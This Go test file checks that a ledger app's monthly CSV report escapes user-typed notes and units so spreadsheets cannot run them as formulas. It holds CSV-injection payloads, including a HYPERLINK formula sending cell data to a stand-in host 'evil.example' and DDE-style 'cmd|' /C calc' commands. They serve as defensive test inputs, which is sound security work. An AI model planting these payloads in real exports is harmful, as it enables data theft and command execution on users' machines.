package ledger_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"cardhour/store"
)

// TestReportCSVCellsNeverRunAsFormulas: text a member typed (an output's
// note and unit) that a spreadsheet would run as a formula reaches the
// monthly report's CSV behind a single quote, in every section it appears
// in; a note that is a plain number stays one, and so do the report's own
// numeric columns (quantity, hours, yuan).
func TestReportCSVCellsNeverRunAsFormulas(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	c := f.e.Client()
	member, manager := f.e.Users[store.RoleMember], f.e.Users[store.RoleManager]
	path := fmt.Sprintf("/api/v1/bookings/%d/outputs", f.booking)
	notes := map[string]string{ // as typed → as the CSV must hold it
		`=HYPERLINK("http://evil.example/?d="&B2,"open")`: `'=HYPERLINK("http://evil.example/?d="&B2,"open")`,
		"+cmd|' /C calc'!A0":                              "'+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0":                     "'@SUM(1+1)*cmd|' /C calc'!A0",
		"-2+3":                                            "'-2+3",
		"\t=1+1":                                          "'=1+1", // the store trims the tab; the rest is still a formula
		"＝1+1":                                            "'＝1+1",
		"-42.5":                                           "-42.5",
		"loss 1.92 = fine":                                "loss 1.92 = fine",
	}
	for note := range notes {
		body, _ := json.Marshal(map[string]any{"quantity": 3, "unit": "epochs", "note": note})
		if r := c.APICall(http.MethodPost, path, member.Token, string(body)); r.StatusCode != http.StatusCreated {
			t.Fatalf("record %q: %d %s", note, r.StatusCode, r)
		}
	}
	body, _ := json.Marshal(map[string]any{"quantity": 7, "unit": "=1+2", "note": "unit as a formula"})
	if r := c.APICall(http.MethodPost, path, member.Token, string(body)); r.StatusCode != http.StatusCreated {
		t.Fatalf("record a formula unit: %d %s", r.StatusCode, r)
	}

	r := c.APICall(http.MethodGet, "/api/v1/reports/monthly?month="+f.month+"&format=csv&section=entries&lang=en", manager.Token, "")
	if r.StatusCode != http.StatusOK {
		t.Fatalf("csv: %d %s", r.StatusCode, r)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, r)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	noteCol, unitCol, qtyCol := col["Note"], col["Unit"], col["Quantity"]
	if noteCol == 0 || unitCol == 0 || qtyCol == 0 {
		t.Fatalf("columns %q lack Note, Unit or Quantity", rows[0])
	}
	got := map[string]bool{}
	for _, row := range rows[1:] {
		got[row[noteCol]] = true
		if row[noteCol] == "unit as a formula" {
			if row[unitCol] != "'=1+2" || row[qtyCol] != "7" {
				t.Errorf("formula unit written as %q (quantity %q), want '=1+2 (and 7)", row[unitCol], row[qtyCol])
			}
		} else if row[qtyCol] != "3" {
			t.Errorf("the quantity column holds %q, want the number 3", row[qtyCol])
		}
	}
	for typed, want := range notes {
		if !got[want] {
			t.Errorf("note %q: want the cell %q in the CSV; cells: %q", typed, want, keys(got))
		}
	}

	// Every section, not only the entries: no cell of the whole export
	// starts as a formula.
	all := c.APICall(http.MethodGet, "/api/v1/reports/monthly?month="+f.month+"&format=csv&lang=en", manager.Token, "")
	rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(all.String(), "\uFEFF")))
	rd.FieldsPerRecord = -1
	recs, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("the full CSV does not parse: %v", err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+@\t\r＝＋＠", []rune(cell)[0]) {
				t.Errorf("a cell starts as a formula: %q", cell)
			}
		}
	}
}

func keys(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}
